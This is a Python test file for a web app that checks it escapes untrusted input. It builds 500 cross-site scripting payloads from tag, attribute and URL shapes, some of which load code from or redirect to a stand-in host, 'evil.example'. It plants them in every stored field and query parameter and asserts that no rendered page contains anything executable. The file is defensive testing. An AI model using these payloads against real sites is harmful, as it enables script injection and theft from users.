from __future__ import annotations

import itertools
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from lxml import html
from msgspec.structs import replace

from sayso.record import Comment, Record, report_id
from sayso.store.base import Store
from sayso.store.projects import create_project
from sayso.store.query import Query
from sayso.store.run import Failure, Outcome, Run
from sayso.web.app import create_app
from tests.export.raid import planted_record
from tests.web.conftest import BASE, OWN

CORES = (
    "alert(1)",
    "alert`1`",
    "self['al'+'ert'](1)",
    "top[/al/.source+/ert/.source](1)",
    "fetch('//evil.example')",
    "document.title='got'",
    "import('//evil.example/x.js')",
    "eval('1')",
    "setTimeout('alert(1)')",
    "location='//evil.example'",
)
SHAPES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<a href=javascript:{}>x</a>",
    "<a href=' &#106;avascript:{}'>x</a>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<form action=javascript:{}><button>x</button></form>",
    "<button formaction=javascript:{}>x</button>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<math><mi xlink:href='javascript:{}'>x",
    "<style>@import 'javascript:{}';</style>",
    "<link rel=stylesheet href=javascript:{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=javascript:{}//>",
    '" onmouseover="{}',
    "' onmouseover='{}",
    '" autofocus onfocus="{}" x="',
    "'><script>{}</script>",
    '"><script>{}</script>',
    "--><script>{}</script>",
    "<!--><script>{}</script>-->",
    "]]><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</select><script>{}</script>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "{{{{ {} }}}}",
    "{{% {} %}}",
    "${{{}}}",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "<template><script>{}</script></template>",
    "<x contenteditable onblur={}>",
    "\u202e<script>{}</script>",
    "\u2028<script>{}</script>",
)
PAYLOADS = [shape.format(core) for shape, core in itertools.product(SHAPES, CORES)]
BATCH = 25


def poisoned(payload: str) -> Record:
    """Return a record with a payload in every field that can hold text."""
    record = planted_record()
    text = f"{record.report.text}\n\n{payload}"
    frame = {name: payload for name in ("url", "outlet", "title", "byline")}
    ident = report_id(
        text=text,
        url=payload,
        outlet=payload,
        published=record.report.published,
        title=payload,
    )
    comments = tuple(
        Comment(n=one.n, author=payload, time=payload, text=f"{one.text} {payload}")
        for one in record.report.comments
    )
    points = tuple(replace(one, phrase=payload) for one in record.thread.talking_points)
    return replace(
        record,
        report=replace(
            record.report,
            **(frame | {"id": ident, "text": text, "key": payload}),
            keys=(payload,),
            comments=comments,
        ),
        actors=tuple(
            replace(one, name=payload, aliases=(payload,), country=payload)
            for one in record.actors
        ),
        places=tuple(
            replace(one, name=payload, country=payload) for one in record.places
        ),
        times=tuple(replace(one, value=payload) for one in record.times),
        events=tuple(
            replace(
                one,
                type=payload,
                mode=payload,
                counts=tuple(replace(n, of=payload) for n in one.counts),
            )
            for one in record.events
        ),
        thread=replace(record.thread, talking_points=points),
    )


def poison(store: Store, payloads: list[str]) -> None:
    """Put payloads in every field of a project."""
    time = "2026-01-01T10:00:00+00:00"
    run = Run(
        id="r",
        kit=payloads[0],
        parameters=dict.fromkeys(payloads, payloads[0]),
        started=time,
    )
    store.start_run(run)
    outcomes = [
        Outcome(
            run="r",
            input=payload,
            digest=f"{number:064x}",
            failure=Failure(input=payload, reason=payload, mend=payload, time=time),
        )
        for number, payload in enumerate(payloads)
    ]
    store.add_records([poisoned(one) for one in payloads], outcomes=outcomes)


def hot_spots(page: str) -> Iterator[str]:
    """Give what of a page could run, load or lead elsewhere."""
    for element in html.document_fromstring(page).iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag in ("iframe", "object", "embed", "base", "style", "template"):
            yield element.tag
        if element.tag == "script" and not (
            element.get("src", "").startswith("/static/") and not element.text
        ):
            yield "script"
        if element.tag == "meta" and element.get("http-equiv"):
            yield "meta"
        for name, value in element.items():
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                yield name
            is_address = name in ("href", "src", "action", "xlink:href", "data")
            if is_address and not value.startswith(("/", "#", "?")):
                yield f"{name}={value}"


def pages_of(store: Store, client: TestClient) -> Iterator[tuple[str, str]]:
    """Give every page on a project with its address."""
    paths = ["/", "/reports", "/ledger", "/events", "/links", "/review"]
    paths += ["/review?of=events", "/review?of=links"]
    paths += [f"/reports/{one.id}" for one in store.reports(Query(limit=1000)).rows]
    for path in paths:
        reply = client.get(path)
        assert reply.status_code == 200, path
        yield path, reply.text


def test_there_are_500_payloads() -> None:
    assert len(set(PAYLOADS)) == 500


@pytest.mark.parametrize("first", range(0, 500, BATCH))
def test_no_field_can_put_anything_hot_on_a_page(tmp_path: Path, first: int) -> None:
    payloads = PAYLOADS[first : first + BATCH]
    with create_project(tmp_path / "hot.sayso") as store:
        poison(store, payloads)
        app = create_app(store, token="t", coder=payloads[0])
        with TestClient(app, base_url=BASE, headers=OWN) as client:
            client.get("/enter?token=t")
            for path, page in pages_of(store, client):
                assert list(hot_spots(page)) == [], path


@pytest.mark.parametrize("payload", PAYLOADS[::25])
def test_no_address_can_put_anything_hot_on_a_page(
    client: TestClient, payload: str
) -> None:
    for name in ("q", "since", "outlet", "actor", "speaker", "place", "report", "of"):
        for path in ("/ledger", "/events", "/reports", "/review", f"/reports/{name}"):
            page = client.get(path, params={name: payload}).text
            assert list(hot_spots(page)) == []
